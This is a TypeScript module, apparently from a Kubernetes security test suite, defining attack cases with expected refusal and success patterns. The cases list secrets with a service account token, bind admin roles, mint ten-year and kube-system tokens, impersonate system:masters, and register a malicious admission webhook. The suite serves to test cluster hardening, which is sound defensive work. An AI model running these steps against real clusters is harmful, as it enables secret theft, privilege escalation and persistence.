import { type Attack, joined, said } from './attack';
import { accountToken, scenery } from './scenery';
import { apiUrl, curl } from './steps';

/** Attacks with service account tokens, bindings and borrowed identities. */
export const tokenAttacks: readonly Attack[] = [
  {
    id: 'A02',
    title: "List secrets with the default service account's token",
    source: "2018 term paper 'Securing Kubernetes', 5.1; stratus k8s.credential-access.dump-secrets",
    weakness: 'default-account-admin',
    async run(target) {
      const token = await accountToken(target, 'default', scenery.shop);
      const url = apiUrl(target, `/api/v1/namespaces/${scenery.shop}/secrets`);
      return target.outside(curl('-H', `Authorization: Bearer ${token}`, url));
    },
    refused:
      /secrets is forbidden: User \\"system:serviceaccount:default:default\\" cannot list resource \\"secrets\\" in API group \\"\\" in the namespace \\"default\\"[\s\S]*HTTP 403/,
    succeeds: /"kind": "SecretList"[\s\S]*HTTP 200/,
  },
  {
    id: 'A03',
    title: 'A tenant binds an administrator role to a default service account',
    source: "2018 term paper 'Securing Kubernetes', 5.1; KubeHound ROLE_BIND",
    weakness: 'deployer-cluster-admin',
    async run(target) {
      const as = { token: await accountToken(target, 'deployer') };
      const binding = ['clusterrolebinding', 'quick-fix'];
      const made = await target.kubectl(
        ['create', ...binding, '--clusterrole=admin', `--serviceaccount=${scenery.tenant}:default`],
        { as },
      );
      if (made.code === 0) await target.kubectl(['delete', ...binding]);
      return made;
    },
    refused:
      /clusterrolebindings\.rbac\.authorization\.k8s\.io is forbidden: User "system:serviceaccount:tenant-a:deployer" cannot create resource/,
    succeeds: /clusterrolebinding\.rbac\.authorization\.k8s\.io\/quick-fix created/,
  },
  {
    id: 'A31',
    title: 'Mint a token that lives for ten years',
    source: 'stratus k8s.persistence.create-token; RKE2 CIS configuration',
    async run(target) {
      const account = 'clusterrole-aggregation-controller';
      const minted = await target.kubectl(['-n', 'kube-system', 'create', 'token', account, '--duration=87600h']);
      if (minted.code !== 0) return minted;
      const claims = JSON.parse(Buffer.from(minted.stdout.split('.')[1] ?? '', 'base64url').toString());
      return joined({ ...minted, stdout: '' }, said(`lifetime ${claims.exp - claims.iat} s`));
    },
    refused: /^\s*lifetime 86400 s$/m,
    succeeds: /lifetime 315360000 s/,
  },
  {
    id: 'A31/kube-system',
    title: 'A deployer makes a token for a service account of the control plane',
    source: 'stratus k8s.persistence.create-token; KubeHound TOKEN_BRUTEFORCE',
    weakness: 'deployer-cluster-admin',
    async run(target) {
      const as = { token: await accountToken(target, 'deployer') };
      const account = 'clusterrole-aggregation-controller';
      const { code, stdout, stderr } = await target.kubectl(['-n', 'kube-system', 'create', 'token', account], { as });
      // The token itself is nobody's business.
      return { code, stderr, stdout: stdout.startsWith('eyJ') ? 'minted a token' : stdout };
    },
    refused: /cannot create resource "serviceaccounts\/token" in API group "" in the namespace "kube-system"/,
    succeeds: /^minted a token$/m,
  },
  {
    id: 'A32',
    title: 'A tenant impersonates an administrator',
    source: 'KubeHound IDENTITY_IMPERSONATE',
    weakness: 'tenant-impersonates',
    async run(target) {
      const as = { token: await accountToken(target, 'tenant') };
      const borrowed = ['--as=kubernetes-admin', '--as-group=system:masters'];
      return target.kubectl(['get', 'secrets', '-A', '-o', 'name', ...borrowed], { as });
    },
    // Since Kubernetes 1.36 the API server asks for the constrained form of the right and names that one.
    refused:
      /User "system:serviceaccount:tenant-a:tenant" cannot impersonate-on:user-info:list resource "secrets" in API group "" at the cluster scope/,
    succeeds: /^secret\/redis$/m,
  },
  {
    id: 'A33',
    title: 'A deployer registers an admission webhook that sees every object',
    source: "Microsoft threat matrix, 'Malicious admission controller'",
    weakness: 'deployer-cluster-admin',
    async run(target) {
      const as = { token: await accountToken(target, 'deployer') };
      const webhook = {
        apiVersion: 'admissionregistration.k8s.io/v1',
        kind: 'MutatingWebhookConfiguration',
        metadata: { name: 'evil' },
        webhooks: [
          {
            name: 'evil.attack.example',
            clientConfig: { url: 'https://127.0.0.1:1/' },
            rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['endpoints'] }],
            failurePolicy: 'Ignore',
            sideEffects: 'None',
            admissionReviewVersions: ['v1'],
          },
        ],
      };
      return target.kubectl(['create', '--dry-run=server', '-f', '-'], { as, stdin: JSON.stringify(webhook) });
    },
    refused: /mutatingwebhookconfigurations\.admissionregistration\.k8s\.io is forbidden/,
    succeeds: /mutatingwebhookconfiguration\.admissionregistration\.k8s\.io\/evil created/,
  },
];
